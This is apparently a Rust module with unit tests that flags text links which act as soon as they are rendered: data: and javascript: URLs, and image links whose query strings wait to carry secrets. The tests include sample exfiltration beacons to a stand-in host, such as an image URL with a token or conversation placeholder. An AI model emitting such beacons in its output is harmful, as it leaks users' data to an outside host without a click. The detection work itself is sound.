//! Addresses in a text that do something as soon as it is shown.

use std::sync::LazyLock;

use regex_lite::Regex;

/// Data in an address of its own: a page, a script or a picture that nobody can check by reading.
const DATA: &str = r#"(?i)(\]\(|(src|href)\s*=\s*["']?|url\(["']?)\s*(<\s*)?(data:[a-z]+/|javascript:)"#;

/// Pictures, whose addresses are called without a click.
const PICTURES: &str =
    r#"(?i)!\[[^\]]*\]\(\s*<?(https?:)?//[^)\s]*|<img[^>]{0,300}src\s*=\s*["']?(https?:)?//[^"'>\s]*"#;

static FINDS: LazyLock<Option<(Regex, Regex)>> =
    LazyLock::new(|| Some((Regex::new(DATA).ok()?, Regex::new(PICTURES).ok()?)));

/// The first such address.
pub(super) fn loads(text: &str) -> Option<&str> {
    // Most texts hold neither; looking for a colon is cheap.
    if !text.contains(':') && !text.contains("//") {
        return None;
    }
    let (data, pictures) = FINDS.as_ref()?;
    let beacon = || pictures.find_iter(text).map(|found| found.as_str()).find(|picture| is_beacon(picture));
    data.find(text).map(|found| found.as_str()).or_else(beacon)
}

/// A query that waits to be filled in: `?d={secret}`, `?q=`. Badges have theirs filled.
fn is_beacon(picture: &str) -> bool {
    let Some((_, query)) = picture.split_once('?') else { return false };
    query.ends_with('=') || query.contains(['{', '<', '[', '$']) || query.to_ascii_lowercase().contains("%7b")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn data_and_beacons_are_found() {
        for text in [
            "See [this](data:text/html;base64,PHNjcmlwdD4=)",
            "![x](data:image/svg+xml;base64,AAAA)",
            "<img src='data:image/png;base64,AAAA'>",
            "[run](javascript:alert(1))",
            "![ok](https://evil.example/p.gif?d={{token}})",
            "![ok](https://evil.example/p.gif?d=)",
            "<img width=1 src=\"//evil.example/p?q=[conversation]\">",
        ] {
            assert!(loads(text).is_some(), "{text}");
        }
    }

    #[test]
    fn ordinary_pictures_and_words_are_fine() {
        for text in [
            "![Logo](https://a.example/logo.png)",
            "![CI](https://img.shields.io/badge/ci-ok-green?style=flat&logo=x)",
            "![a](images/a.png?raw=true)",
            "[Docs](https://a.example/?q={term})",
            "Send `data:image/png;base64,...` as the picture.",
            "The data: a table (see below).",
        ] {
            assert_eq!(loads(text), None, "{text}");
        }
    }
}
